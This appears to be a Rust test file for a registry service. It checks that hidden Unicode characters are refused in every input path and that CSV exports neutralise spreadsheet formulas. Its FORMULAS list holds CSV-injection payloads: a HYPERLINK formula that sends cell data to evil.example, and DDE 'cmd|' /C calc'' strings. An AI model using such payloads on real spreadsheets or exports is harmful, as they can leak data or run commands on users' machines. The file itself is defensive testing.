//! Registry text that cannot hide or run anything (issue 8): hidden characters are refused
//! on every way in (create, patch, HTTP import, `asli registry import`), and an export never
//! hands a spreadsheet a formula, yet imports back to the same registry.

use std::process::Command;

use reqwest::Method;
use serde_json::{Value, json};

use super::{TestAdmin, error_code, official};
use crate::helpers::StoreKind;

on_both_stores!(
    hidden_characters_in_any_text_field_are_a_422_naming_field_and_code_point,
    a_patch_that_adds_a_hidden_character_is_refused_and_changes_nothing,
    an_import_with_hidden_characters_names_each_row_and_field_and_writes_nothing,
    the_cli_import_refuses_hidden_characters_naming_row_field_and_code_point,
    formula_like_text_is_exported_behind_a_quote_and_imports_back_byte_identical,
);

/// The four spreadsheet attacks of the issue, and the two leading-control forms.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
];

/// `(field, code point)` of each field error in a 422's details.
fn field_code_points(details: &Value) -> Vec<(String, String)> {
    details["fields"]
        .as_array()
        .expect("details.fields")
        .iter()
        .map(|e| {
            let message = e["message"].as_str().unwrap_or_default();
            let at = message.find("U+").unwrap_or(0);
            (
                e["field"].as_str().unwrap_or_default().to_string(),
                message[at..].chars().take(6).collect(),
            )
        })
        .collect()
}

async fn hidden_characters_in_any_text_field_are_a_422_naming_field_and_code_point(b: StoreKind) {
    let app = TestAdmin::spawn(b).await;
    let r = app
        .create(json!({
            "name": "Arvind \u{202E}atheM",
            "aliases": ["A. Mehta", "Arvind\u{200B}Mehta"],
            "designation": "Commissioner\u{2066}",
            "designation_aliases": ["\u{FEFF}Ayukt"],
            "organization": "Dewas\u{200D} MC",
            "notes": "ring\u{7}the bell \u{1B}[31m",
            "phones": ["+917000000001"],
        }))
        .await;
    let (code, details) = error_code(r, 422).await;
    assert_eq!(code, "validation_failed");
    assert_eq!(
        field_code_points(&details),
        [
            ("name", "U+202E"),
            ("aliases[1]", "U+200B"),
            ("designation", "U+2066"),
            ("designation_aliases[0]", "U+FEFF"),
            ("organization", "U+200D"),
            ("notes", "U+0007"),
        ]
        .map(|(f, c)| (f.to_string(), c.to_string()))
    );
    assert_eq!(
        app.stores.registry.load_registry().await.unwrap().version,
        0
    );

    // Real writing keeps its joiners and line breaks: Marathi's eyelash ra, notes on lines.
    let o = app
        .create_ok(json!({
            "name": "कर्\u{200D}हाड नगर परिषद",
            "notes": "line one\r\n\tline two",
            "phones": ["+917000000002"],
        }))
        .await;
    assert_eq!(o["name"], "कर्\u{200D}हाड नगर परिषद");
}

async fn a_patch_that_adds_a_hidden_character_is_refused_and_changes_nothing(b: StoreKind) {
    let app = TestAdmin::spawn(b).await;
    let o = app.create_ok(official("Arvind Mehta", 1)).await;
    let id = o["id"].as_str().unwrap();
    let etag = format!("\"{id}-v1\"");
    for (body, field, cp) in [
        (json!({"name": "Arvind\u{202E}Mehta"}), "name", "U+202E"),
        (
            json!({"aliases": ["\u{2067}A. Mehta"]}),
            "aliases[0]",
            "U+2067",
        ),
        (json!({"notes": "bell\u{7}"}), "notes", "U+0007"),
        (
            json!({"organization": "Dewas\u{061C}"}),
            "organization",
            "U+061C",
        ),
    ] {
        let (code, details) = error_code(app.patch(id, Some(&etag), body).await, 422).await;
        assert_eq!(code, "validation_failed");
        assert_eq!(
            field_code_points(&details),
            [(field.to_string(), cp.to_string())]
        );
    }
    let now: Value = app.get(id).await.json().await.unwrap();
    assert_eq!(
        (now["name"].as_str(), now["version"].as_u64()),
        (Some("Arvind Mehta"), Some(1))
    );
}

async fn an_import_with_hidden_characters_names_each_row_and_field_and_writes_nothing(
    b: StoreKind,
) {
    let app = TestAdmin::spawn(b).await;
    let csv = "name,aliases,notes,phones\n\
               Clean Name,,,+917000000001\n\
               Arvind\u{202E}Mehta,,,+917000000002\n\
               Second,A.\u{200B}Mehta,,+917000000003\n\
               Third,,\"esc \u{1B} here\",+917000000004\n";
    let (code, details) = error_code(app.import(csv, "text/csv", false).await, 422).await;
    assert_eq!(code, "import_rejected");
    let rows: Vec<(u64, &str, bool)> = details["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["row"].as_u64().unwrap(),
                r["field"].as_str().unwrap(),
                r["message"].as_str().unwrap().contains("U+"),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            (2, "name", true),
            (3, "aliases[0]", true),
            (4, "notes", true)
        ]
    );

    let json_rows = json!([{"name": "Ok"}, {"name": "Bad\u{2069}", "phones": ["+917000000005"]}]);
    let (_, details) = error_code(
        app.import(json_rows.to_string(), "application/json", false)
            .await,
        422,
    )
    .await;
    assert_eq!(details["rows"][0]["row"], 2);
    assert!(
        details["rows"][0]["message"]
            .as_str()
            .unwrap()
            .contains("U+2069")
    );
    assert_eq!(
        app.stores.registry.load_registry().await.unwrap().version,
        0
    );
}

async fn the_cli_import_refuses_hidden_characters_naming_row_field_and_code_point(b: StoreKind) {
    let state = crate::helpers::app::StoreHandle::new(b);
    let file = state.dir.path().join("officials.csv");
    std::fs::write(
        &file,
        "name,phones\nGood,+917000000001\nBad\u{202D}Name,+917000000002\n",
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_asli"))
        .args(["registry", "import"])
        .arg(&file)
        .current_dir(state.dir.path())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .envs(state.env())
        .output()
        .expect("asli runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(stderr.contains("row 2, name: contains U+202D"), "{stderr}");
    assert_eq!(
        state
            .open()
            .await
            .registry
            .load_registry()
            .await
            .unwrap()
            .version,
        0
    );
}

async fn formula_like_text_is_exported_behind_a_quote_and_imports_back_byte_identical(
    b: StoreKind,
) {
    let app = TestAdmin::spawn(b).await;
    for (n, formula) in FORMULAS.iter().enumerate() {
        app.create_ok(json!({
            "name": formula,
            "aliases": [formula.replace('|', "/"), "plain"],
            "designation": formula,
            "designation_aliases": [formula.replace('|', "/")],
            "organization": formula,
            "notes": format!("{formula}\nsecond line"),
            "phones": [{"number": format!("+91 70000 0000{n}"), "label": "pa"}],
        }))
        .await;
    }
    // Text that already begins with a quote: one more on export only where a formula follows.
    app.create_ok(
        json!({"name": "'=already quoted", "notes": "'hello", "phones": ["+917000000099"]}),
    )
    .await;
    let first = app.export().await;

    let mut reader = csv::Reader::from_reader(first.as_slice());
    let headers = reader.headers().unwrap().clone();
    for record in reader.records() {
        let record = record.unwrap();
        for (column, cell) in headers.iter().zip(record.iter()) {
            if column == "phones" {
                continue;
            }
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{b:?}: column {column} begins like a formula: {cell:?}"
            );
        }
    }
    let text = String::from_utf8(first.clone()).unwrap();
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(text.contains("''=already quoted"), "{text}");
    assert!(text.contains(",'hello,"), "{text}");

    let fresh = TestAdmin::spawn(b).await;
    let r = fresh.import(first.clone(), "text/csv", false).await;
    assert_eq!(r.status(), 200, "{b:?}");
    assert_eq!(
        fresh.export().await,
        first,
        "{b:?}: export → import → export"
    );
    let names = |officials: Vec<asli::registry::Official>| {
        let mut v: Vec<String> = officials.into_iter().map(|o| o.name).collect();
        v.sort();
        v
    };
    assert_eq!(
        names(
            fresh
                .stores
                .registry
                .load_registry()
                .await
                .unwrap()
                .officials
        ),
        names(app.stores.registry.load_registry().await.unwrap().officials)
    );
    let r = app
        .req(Method::GET, "/admin/officials?q=HYPERLINK")
        .send()
        .await
        .unwrap();
    let page: Value = r.json().await.unwrap();
    assert_eq!(page["items"][0]["name"], FORMULAS[0], "stored unescaped");
}
